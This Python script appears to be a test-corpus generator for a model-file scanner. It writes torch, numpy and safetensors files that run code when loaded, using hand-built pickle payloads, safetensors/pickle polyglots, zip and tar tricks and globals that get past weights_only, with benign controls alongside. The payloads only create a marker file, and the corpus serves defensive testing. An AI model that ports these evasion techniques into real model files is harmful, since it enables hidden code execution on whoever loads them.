#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Writes the corpus of issue 39 into a folder: files that run code when real Python opens them (torch.load with
weights_only=False, numpy.load with allow_pickle=True), at least two variants of each of the nine classes, and benign
controls: real torch.save and np.save/np.savez files, the reference safetensors writer's files and a tensordict tree
from tests/data. Every payload only creates the file "marker" in the current directory of the process that opens
it. Also writes manifest.json, one entry per case (check_unsafe_corpus.py builds the same list in memory).
Usage: make_unsafe_corpus.py FOLDER"""
import collections
import hashlib
import io
import json
import os
import shutil
import struct
import sys
import zipfile

import numpy
import torch

HERE = os.path.dirname(os.path.abspath(__file__))
DATA = os.path.join(HERE, "..", "..", "data")
MARKER = "marker"
SHELL = f"touch {MARKER}"
PYTHON = f"open({MARKER!r}, 'w').close()"


# Hand-built pickle pieces. The unpickler does not check an opcode against the PROTO header; the header matters for
# _compat_pickle's renames (protocols < 3) and for dotted names (protocols >= 4).

def text(s, proto):
    """A str operand in an opcode the protocol has."""
    raw = s.encode()
    if proto < 2:
        return b"V" + raw + b"\n"
    if proto < 4:
        return b"X" + struct.pack("<I", len(raw)) + raw
    return b"\x8c" + bytes([len(raw)]) + raw


def data(b):
    """A bytes operand (SHORT_BINBYTES or BINBYTES; pickle.loads wants bytes)."""
    return (b"C" + bytes([len(b)]) if len(b) < 256 else b"B" + struct.pack("<I", len(b))) + b


def find(module, name, form, proto):
    """Pushes the global module.name."""
    if form == "STACK_GLOBAL":
        return text(module, max(proto, 4)) + text(name, max(proto, 4)) + b"\x93"
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module, name, args, form, proto):
    """Calls module.name(*args): args are operand bytes already encoded."""
    if form == "INST":
        return b"(" + b"".join(args) + b"i" + module.encode() + b"\n" + name.encode() + b"\n"
    return find(module, name, form, proto) + b"(" + b"".join(args) + b"tR"


def header(proto):
    return b"\x80" + bytes([proto]) if proto >= 2 else b""


def shell_payload(form="GLOBAL", proto=2):
    """A whole pickle that runs os.system("touch marker")."""
    return header(proto) + call("os", "system", [text(SHELL, proto)], form, proto) + b"."


def exec_payload(form="STACK_GLOBAL", proto=4):
    """A whole pickle that runs builtins.exec(<create marker>)."""
    return header(proto) + call("builtins", "exec", [text(PYTHON, proto)], form, proto) + b"."


class Calls:
    """Pickles as a call of `function` on `args`, as the real pickler writes it."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return (self.function, self.args)


# Zip helpers: members are read and rewritten with Python's zipfile (stored, as torch writes them).

def zip_members(path):
    with zipfile.ZipFile(path) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def write_zip(path, members, compression=zipfile.ZIP_STORED):
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, blob in members:
            archive.writestr(zipfile.ZipInfo(name, (2000, 1, 1, 0, 0, 0)), blob, compression)


def inject(pickle_bytes, ops, header_proto=None):
    """`ops` (which must leave the stack as it found it) placed right after the PROTO header of a real pickle."""
    assert pickle_bytes[0] == 0x80
    return header(header_proto or pickle_bytes[1]) + ops + pickle_bytes[2:]


def injected_checkpoint(path, ops, proto=2, obj=None, header_proto=None):
    """A real torch.save zip checkpoint whose data.pkl also runs `ops` first; the state dict loads as before.
    header_proto relabels the PROTO header."""
    torch.save(obj if obj is not None else {"w": torch.arange(4.0)}, path, pickle_protocol=proto)
    members = [(n, inject(b, ops, header_proto) if n.endswith("/data.pkl") else b) for n, b in zip_members(path)]
    write_zip(path, members)


class Corpus:
    def __init__(self, folder):
        self.folder, self.cases = folder, []

    def path(self, *parts):
        p = os.path.join(self.folder, *parts)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        return p

    def add(self, klass, variant, malicious, consumer, files, scan=None, verify=None, **extra):
        """consumer: torch (torch.load each file), numpy (numpy.load, every member read), safetensors (torch.load
        must run nothing), tree (nothing opened). scan/verify: the paths given to the tool (default: the files)."""
        self.cases.append(dict(klass=klass, variant=variant, malicious=malicious, consumer=consumer, files=files,
                               scan=scan or files, verify=verify or files, **extra))


# 1. safetensors that is also a pickle -----------------------------------------------------------------------------

VALID_STEP = [k for k in range(0x23, 0x7F) if k != 0x5C]  # a SHORT_BINSTRING length byte a JSON string may hold


def polyglot(opener, payload):
    """Valid safetensors (one U8 tensor holding `payload`) whose bytes from 0 are a pickle: the 8-byte header length
    N reads as opcode `opener` (BINSTRING 'T', BINBYTES 'B', BINUNICODE 'X') with a 4-byte length L, so N = opener +
    256 L; that string ends inside a JSON string, where SHORT_BINSTRING + POP pairs step over the rest of the header
    to the tensor's data: the payload."""
    prefix = b'{"__metadata__":{"note":"'
    tail = b'"},"weight":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(payload), len(payload))
    length = 40  # L: the opener's string ends at byte 5 + L, inside the note
    n = opener + 256 * length
    end = 8 + n
    filler = bytearray(b"a" * (n - len(prefix) - len(tail)))
    base = 8 + len(prefix)  # file offset of filler[0]
    pos = 5 + length
    assert base <= pos
    final = next(k for k in range(126, len(tail) - 1, -1) if k in VALID_STEP and
                 (end - 2 - k - pos == 0 or steps(end - 2 - k - pos) is not None))
    for k in steps(end - 2 - final - pos) or []:
        filler[pos - base:pos - base + 2] = bytes([0x55, k])
        filler[pos + 2 + k - base] = 0x30  # POP the skipped string
        pos += 3 + k
    filler[pos - base:pos - base + 2] = bytes([0x55, final])
    head = prefix + bytes(filler) + tail
    assert len(head) == n
    blob = struct.pack("<Q", n) + head + payload
    assert blob[0] == opener and blob[5:8] == b"\0\0\0"
    # The spec, checked: a JSON object header; the data offsets tile the data.
    meta = json.loads(head)
    assert meta["weight"]["data_offsets"] == [0, len(blob) - 8 - n]
    return blob


def steps(distance):
    """SHORT_BINSTRING lengths k whose steps (3 + k bytes each) cover `distance` exactly, or None."""
    count = max(1, -(-distance // 129))
    size, extra = divmod(distance, count)
    out = [size + (1 if i < extra else 0) - 3 for i in range(count)]
    if any(k not in VALID_STEP for k in out):
        return None
    return out


def class_1(c):
    for variant, opener, payload in (("binunicode_global", 0x58, shell_payload("GLOBAL", 2)),
                                     ("binstring_stack_global", 0x54, exec_payload("STACK_GLOBAL", 4)),
                                     ("binbytes_inst", 0x42, shell_payload("INST", 0))):
        p = c.path(f"c1_{variant}.safetensors")
        with open(p, "wb") as out:
            out.write(polyglot(opener, payload))
        c.add(1, variant, True, "torch", [p])


# 2. a legacy tar checkpoint without the ustar magic ---------------------------------------------------------------

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def v7_member(name, blob):
    """A V7 tar header (no ustar magic: Python's tarfile accepts it by its checksum) and the padded content."""
    assert len(name) < 100
    head = bytearray(512)
    head[0:len(name)] = name
    head[100:108] = b"0000644\0"
    head[108:116] = b"0000000\0"
    head[116:124] = b"0000000\0"
    head[124:136] = b"%011o\0" % len(blob)
    head[136:148] = b"%011o\0" % 946684800
    head[148:156] = b" " * 8
    head[156:157] = b"0"
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head) + blob + b"\0" * (-len(blob) % 512)


def class_2(c):
    # The legacy format's five pickles (magic number, protocol version, sys_info, the object, the storage keys),
    # harmless, in protocol 0 text and protocol 2 binary, neither holding a NUL (the name ends at the first).
    text_pickles = b"L%dL\n.I1001\n.(d.(d.(l." % LEGACY_MAGIC
    binary = b"\x80\x02\x8a\x0a" + LEGACY_MAGIC.to_bytes(10, "little") + b".\x80\x02M\xe9\x03.\x80\x02}.\x80\x02}.\x80\x02]."
    for variant, names, payload, layout in (
            ("text_names_global", text_pickles, shell_payload("GLOBAL", 2), ["storages"]),
            ("binary_names_stack_global", binary, exec_payload("STACK_GLOBAL", 4), ["tensors", "storages", "pickle"])):
        assert b"\0" not in names
        blob = v7_member(names, b"")
        for member in layout:
            blob += v7_member(member.encode(), payload if member == "storages" else b"\x80\x02]q\x00.")
        p = c.path(f"c2_{variant}.pt")
        with open(p, "wb") as out:
            out.write(blob + b"\0" * 1024)
        c.add(2, variant, True, "torch", [p])


# 3. zip names that differ only in case ----------------------------------------------------------------------------

def class_3(c):
    # torch.save names the archive folder after the file ("c3_upper_ext_next/data.pkl"). torch's reader (miniz)
    # looks names up case-insensitively; of two such names written one after the other it takes the second (tried
    # with torch 1.13: the first, or the two apart, it does not), so the malicious one follows the benign one.
    for variant, evil_name, last in (("upper_ext_next", "data.PKL", False), ("upper_all_both_last", "DATA.PKL", True),
                                     ("mixed_ext_next", "data.Pkl", False)):
        p = c.path(f"c3_{variant}.pt")
        torch.save({"w": torch.arange(4.0), "v": torch.ones(3)}, p)
        members = zip_members(p)
        good = next(i for i, (n, _) in enumerate(members) if n.endswith("/data.pkl"))
        evil = (members[good][0][:-len("data.pkl")] + evil_name, shell_payload("GLOBAL", 2))
        if last:
            members.append(members.pop(good))
            good = len(members) - 1
        members.insert(good + 1, evil)
        write_zip(p, members)
        c.add(3, variant, True, "torch", [p])


# 4. two end-of-central-directory records --------------------------------------------------------------------------

def relocated(zip_bytes, base):
    """A zip archive's bytes moved to file offset `base`: each central header's local offset and the EOCD's
    central directory offset shifted."""
    blob = bytearray(zip_bytes)
    eocd = blob.rfind(b"PK\x05\x06")
    count, size, start = struct.unpack_from("<HII", blob, eocd + 10)
    assert blob.find(b"PK\x06\x06") < 0, "zip64 is not relocated here"
    at = start
    for _ in range(count):
        assert blob[at:at + 4] == b"PK\x01\x02"
        struct.pack_into("<I", blob, at + 42, struct.unpack_from("<I", blob, at + 42)[0] + base)
        names, extra, comment = struct.unpack_from("<HHH", blob, at + 28)
        at += 46 + names + extra + comment
    struct.pack_into("<I", blob, eocd + 16, start + base)
    return bytes(blob)


def class_4(c):
    # The second EOCD ends the file; or bytes follow it (its own comment length 0, or one past the end of the file),
    # so that only the first EOCD's comment length reaches the end of the file exactly.
    for variant, trailing, claimed in (("second_eocd_at_end", b"", 0), ("second_eocd_then_comment", b"comment", 0),
                                       ("second_eocd_comment_past_end", b"comment", 200)):
        benign, evil = c.path(f"c4_{variant}.benign.tmp"), c.path(f"c4_{variant}.evil.tmp")
        torch.save({"w": torch.arange(4.0)}, benign)
        torch.save({"w": torch.zeros(2), "x": Calls(os.system, SHELL)}, evil)
        write_zip(evil, zip_members(evil))  # rewritten without torch's zip64 end records, to be relocated
        a = open(benign, "rb").read()
        b = open(evil, "rb").read()
        os.remove(benign)
        os.remove(evil)
        eocd = a.rfind(b"PK\x05\x06")
        assert eocd == len(a) - 22
        b = relocated(b, eocd + 22)
        comment = b[:-2] + struct.pack("<H", claimed) + trailing
        assert len(comment) < 65536
        p = c.path(f"c4_{variant}.pt")
        with open(p, "wb") as out:
            out.write(a[:eocd + 20] + struct.pack("<H", len(comment)) + comment)
        c.add(4, variant, True, "torch", [p])


# 5. meta.json beside a pickle checkpoint in a model folder --------------------------------------------------------

def evil_checkpoint(path, proto=2, form="GLOBAL"):
    """A real checkpoint that first calls os.system (its result popped) and then loads as a state dict."""
    injected_checkpoint(path, call("os", "system", [text(SHELL, proto)], form, proto) + b"0", proto)


def model_folder(c, root, name, malicious, hf_cache):
    """A model folder with meta.json, config.json and pytorch_model.bin; with hf_cache, laid out as a Hugging Face
    cache (snapshots/<commit>/ holding links into blobs/). Returns (scan root, model folder, the .bin)."""
    meta = json.dumps({"framework": "pt", "task": "fill-mask"}).encode()
    config = json.dumps({"model_type": "bert", "hidden_size": 4}).encode()
    if not hf_cache:
        folder = c.path(root, name, "meta.json")[:-len("meta.json")]
        bin_path = os.path.join(folder, "pytorch_model.bin")
        open(os.path.join(folder, "meta.json"), "wb").write(meta)
        open(os.path.join(folder, "config.json"), "wb").write(config)
        (evil_checkpoint(bin_path) if malicious else torch.save({"w": torch.arange(4.0)}, bin_path))
        return folder, folder, bin_path
    repo = c.path(root, f"models--org--{name}", "refs", "main")[:-len("refs/main")]
    commit = hashlib.sha1(name.encode()).hexdigest()
    open(os.path.join(repo, "refs", "main"), "w").write(commit)
    snapshot = os.path.join(repo, "snapshots", commit)
    os.makedirs(snapshot)
    os.makedirs(os.path.join(repo, "blobs"))
    scratch = os.path.join(repo, "model.tmp")
    (evil_checkpoint(scratch, 4, "STACK_GLOBAL") if malicious else torch.save({"w": torch.arange(4.0)}, scratch))
    for file, blob in (("meta.json", meta), ("config.json", config), ("pytorch_model.bin", open(scratch, "rb").read())):
        digest = hashlib.sha256(blob).hexdigest()
        open(os.path.join(repo, "blobs", digest), "wb").write(blob)
        os.symlink(os.path.join("..", "..", "blobs", digest), os.path.join(snapshot, file))
    os.remove(scratch)
    return c.path(root), snapshot, os.path.join(snapshot, "pytorch_model.bin")


def class_5(c):
    for variant, hf_cache in (("model_dir", False), ("hf_cache", True)):
        root, folder, bin_path = model_folder(c, f"c5_{variant}", "model", True, hf_cache)
        c.add(5, variant, True, "torch", [bin_path], scan=[root], verify=[folder])


# 6. sharded torch checkpoints -------------------------------------------------------------------------------------

def sharded(c, root, shard_names, evil_proto=None, evil_form="GLOBAL"):
    """A pytorch_model.bin.index.json and its shards (the last one malicious when evil_proto is set)."""
    folder = c.path(root, "x")[:-1]
    weight_map, total = {}, 0
    for i, shard in enumerate(shard_names):
        key = f"layer{i}.weight"
        path = os.path.join(folder, shard)
        tensors = {key: torch.arange(4.0) + i}
        if evil_proto and i == len(shard_names) - 1:
            injected_checkpoint(path, call("os", "system", [text(SHELL, evil_proto)], evil_form, evil_proto) + b"0",
                                evil_proto, tensors)
        else:
            torch.save(tensors, path)
        weight_map[key] = shard
        total += 16
    index = os.path.join(folder, "pytorch_model.bin.index.json")
    json.dump({"metadata": {"total_size": total}, "weight_map": weight_map}, open(index, "w"))
    return folder, index, [os.path.join(folder, s) for s in shard_names]


def class_6(c):
    for variant, names, proto, form in (
            ("bin_shards_global", ["pytorch_model-00001-of-00002.bin", "pytorch_model-00002-of-00002.bin"], 2, "GLOBAL"),
            ("data_shard_stack_global", ["pytorch_model-00001-of-00002.bin", "x.data"], 4, "STACK_GLOBAL")):
        folder, index, shards = sharded(c, f"c6_{variant}", names, proto, form)
        c.add(6, variant, True, "torch", shards, scan=[folder, index], verify=[folder, index])


# 7. .npz members whose names do not end in .npy -------------------------------------------------------------------

def class_7(c):
    for variant, member, function, arg, compression in (
            ("no_extension_stored", "payload", os.system, SHELL, zipfile.ZIP_STORED),
            ("bin_extension_deflated", "extra.bin", exec, PYTHON, zipfile.ZIP_DEFLATED),
            ("upper_npy_stored", "objects.NPY", os.system, SHELL, zipfile.ZIP_STORED)):
        p = c.path(f"c7_{variant}.npz")
        numpy.savez(p, weights=numpy.arange(6.0))
        stream = io.BytesIO()
        numpy.save(stream, numpy.array([Calls(function, arg), 3], dtype=object), allow_pickle=True)
        write_zip(p, zip_members(p) + [(member, stream.getvalue())], compression)
        c.add(7, variant, True, "numpy", [p])


# 8. refused by weights_only=True, called safe ---------------------------------------------------------------------

COUNTER_ATTRIBUTE = "tensorfile_corpus_attribute"


def class_8(c):
    aten = find("torch", "ops.aten.add.Tensor", "GLOBAL", 4)
    p = c.path("c8_aten_suffix_global.pkl")
    open(p, "wb").write(b"\x80\x04" + aten + b".")
    c.add(8, "aten_suffix_global", True, "torch", [p], refused_only=True)
    # A real protocol 2 checkpoint relabelled protocol 4 (so that Python resolves the dotted name) with the global
    # pushed and popped first; torch 1.13's weights_only reader knows every opcode in it, so the global is what it
    # refuses.
    p = c.path("c8_aten_suffix_in_checkpoint.pt")
    injected_checkpoint(p, find("torch", "ops.aten.mul.Tensor", "GLOBAL", 4) + b"0", 2, header_proto=4)
    c.add(8, "aten_suffix_in_checkpoint", True, "torch", [p], refused_only=True)
    # BUILD on the class itself: state (None, {name: value}) is setattr on collections.Counter for the process.
    # A new attribute in a bare pickle; a method replaced from inside a real checkpoint.
    for variant, attribute, in_zip in (("counter_build_new_attribute", COUNTER_ATTRIBUTE, False),
                                       ("counter_build_method_in_checkpoint", "most_common", True)):
        proto = 2
        ops = find("collections", "Counter", "GLOBAL", proto) + b"N}" + text(attribute, proto) + \
            text("set", proto) + b"s\x86b"
        if in_zip:
            p = c.path(f"c8_{variant}.pt")
            injected_checkpoint(p, ops + b"0", proto)
        else:
            p = c.path(f"c8_{variant}.pkl")
            open(p, "wb").write(header(proto) + ops + b".")
        c.add(8, variant, True, "torch", [p], counter_attribute=attribute)


# 9. globals that reach code: _compat_pickle aliases and dotted names ----------------------------------------------

def class_9(c):
    inner = shell_payload("GLOBAL", 0)
    cases = {
        "cpickle_loads_global": header(2) + call("cPickle", "loads", [data(inner)], "GLOBAL", 2) + b".",
        "cpickle_loads_inst_p0": call("cPickle", "loads", [data(inner)], "INST", 0) + b".",
        # thread.start_new_thread(cPickle.loads, (inner,)), the function reached through __builtin__.reduce:
        # reduce(start_new_thread, [(inner,)], loads) calls start_new_thread(loads, (inner,)).
        "builtin_reduce_thread": header(2) + find("__builtin__", "reduce", "GLOBAL", 2) + b"(" +
        find("thread", "start_new_thread", "GLOBAL", 2) + b"]" + data(inner) + b"\x85a" +
        find("cPickle", "loads", "GLOBAL", 2) + b"tR.",
        "thread_start_new_thread_inst": b"(" + find("cPickle", "loads", "GLOBAL", 0) + b"(" + data(inner) +
        b"ti" + b"thread\nstart_new_thread\n.",
        # Protocol 4 resolves a dotted name attribute by attribute: torch.serialization.os.system is os.system.
        "dotted_torch_hub_os_global": header(4) + call("torch", "hub.os.system", [text(SHELL, 4)], "GLOBAL", 4) + b".",
        "dotted_torch_serialization_os_stack_global": header(4) +
        call("torch", "serialization.os.system", [text(SHELL, 4)], "STACK_GLOBAL", 4) + b".",
    }
    for variant, blob in cases.items():
        p = c.path(f"c9_{variant}.pkl")
        open(p, "wb").write(blob)
        c.add(9, variant, True, "torch", [p], dangerous=True, wait="thread" in variant)


# Benign controls --------------------------------------------------------------------------------------------------

def benign(c):
    state = collections.OrderedDict(w=torch.arange(12.0).reshape(3, 4), b=torch.ones(4, dtype=torch.float16))
    for variant, kwargs in (("zip_p2", {}), ("zip_p4", {"pickle_protocol": 4}),
                            ("legacy_p2", {"_use_new_zipfile_serialization": False}),
                            ("legacy_p4", {"_use_new_zipfile_serialization": False, "pickle_protocol": 4})):
        p = c.path(f"b_{variant}.pt")
        torch.save(state, p, **kwargs)
        c.add(0, variant, False, "torch", [p])
    # The reference writer's files: their header lengths begin with bytes that are pickle opcodes too ('Q', 'S').
    for name in sorted(n for n in os.listdir(os.path.join(DATA, "safetensors")) if n.endswith(".safetensors")):
        p = c.path(f"b_reference_{name}")
        shutil.copy(os.path.join(DATA, "safetensors", name), p)
        c.add(0, f"safetensors_{name}", False, "safetensors", [p])
    # Written by the spec, header lengths 0x280 and 0x63: the file begins with PROTO 2 or GLOBAL, and the pickle
    # breaks at once (a NUL opcode; a GLOBAL with no newline), before anything could run.
    for n in (0x280, 0x63):
        head = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
        p = c.path(f"b_spec_header_{n:#x}.safetensors")
        open(p, "wb").write(struct.pack("<Q", n) + head.ljust(n) + struct.pack("<2f", 1.5, -2.0))
        c.add(0, f"safetensors_header_{n:#x}", False, "safetensors", [p])
    tree = c.path("b_tensordict", "s01_basic")
    shutil.copytree(os.path.join(DATA, "tensordict", "s01_basic"), tree)
    c.add(0, "tensordict_s01_basic", False, "tree", [tree])
    for variant, hf_cache in (("model_dir", False), ("hf_cache", True)):
        root, folder, bin_path = model_folder(c, f"b_{variant}", "model", False, hf_cache)
        c.add(0, f"meta_json_{variant}", False, "torch", [bin_path], scan=[root], verify=[folder])
    folder, index, shards = sharded(c, "b_sharded", ["pytorch_model-00001-of-00002.bin",
                                                     "pytorch_model-00002-of-00002.bin"])
    c.add(0, "sharded", False, "torch", shards, scan=[folder, index], verify=[folder, index])
    p = c.path("b_array.npy")
    numpy.save(p, numpy.arange(10, dtype=numpy.int32))
    c.add(0, "npy", False, "numpy", [p])
    for save in (numpy.savez, numpy.savez_compressed):
        p = c.path(f"b_{save.__name__}.npz")
        save(p, a=numpy.arange(6.0), b=numpy.eye(2, dtype=numpy.float32))
        c.add(0, save.__name__, False, "numpy", [p])


def build(folder):
    """Writes the corpus and its manifest into `folder`; returns the cases."""
    c = Corpus(os.path.abspath(folder))
    for make in (class_1, class_2, class_3, class_4, class_5, class_6, class_7, class_8, class_9, benign):
        make(c)
    json.dump(c.cases, open(os.path.join(c.folder, "manifest.json"), "w"), indent=1)
    return c.cases


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    os.makedirs(sys.argv[1], exist_ok=True)
    print(f"{len(build(sys.argv[1]))} cases written to {sys.argv[1]}")
